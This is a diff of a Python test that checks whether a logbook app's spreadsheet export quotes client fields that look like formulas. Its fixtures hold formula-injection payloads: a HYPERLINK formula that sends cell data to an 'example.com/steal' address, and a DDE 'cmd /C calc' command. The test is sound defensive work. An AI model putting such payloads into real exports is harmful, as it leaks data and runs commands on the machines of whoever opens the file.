@@ -22,6 +22,11 @@ NOW = datetime(2025, 6, 2, 12, 0, tzinfo=UTC)
 HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1, "Click for results")'
 TYPED = {
     "client_name": "@Ann Smith",
+    "phone": "+64 21 555 0101",
+    "email": "-ann@example.com",
+    "allergies": "=Latex",
+    "address": "@1 Queen Street",
+    "general_notes": "-Prefers mornings",
     "practitioner": "+Dr Evil",
     "cartridge": "-12 pin",
     "area_note": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -30,6 +35,7 @@ TYPED = {
     "glide_product": "=1+1",
     "glide_lot": "'=already quoted",
     "notes": HYPERLINK,
+    "products": "=1+1, lot '=already quoted",
 }
 
 
@@ -37,7 +43,17 @@ TYPED = {
 def book(data_dir: Path) -> tuple[Path, int]:
     with Logbook.open(data_dir, actor="=cmd|' /C calc'!A0", create=True) as logbook:
         client = logbook.add_client(
-            ClientDetails("@Ann", "Smith", date_of_birth=date(1984, 7, 9)), today=NOW.date()
+            ClientDetails(
+                "@Ann",
+                "Smith",
+                date_of_birth=date(1984, 7, 9),
+                phone=TYPED["phone"],
+                email=TYPED["email"],
+                allergies=TYPED["allergies"],
+                address=TYPED["address"],
+                general_notes=TYPED["general_notes"],
+            ),
+            today=NOW.date(),
         )
         logbook.record_session(
             SessionDetails(
@@ -85,7 +101,8 @@ def test_text_cells_that_look_like_formulas_get_a_quote(book, tmp_path: Path) ->
     assert everyone == safe
     assert {column: kept[column] for column in TYPED} == TYPED
     # Machine values (ids, dates, numbers, the app's vocabulary) are never touched.
-    assert set(TYPED) == TEXT_COLUMNS
+    # (treatment_detail: on rows of other treatments, below.)
+    assert set(TYPED) | {"treatment_detail"} == TEXT_COLUMNS
     assert {c: safe[c] for c in COLUMNS if c not in TEXT_COLUMNS} == {
         c: kept[c] for c in COLUMNS if c not in TEXT_COLUMNS
     }
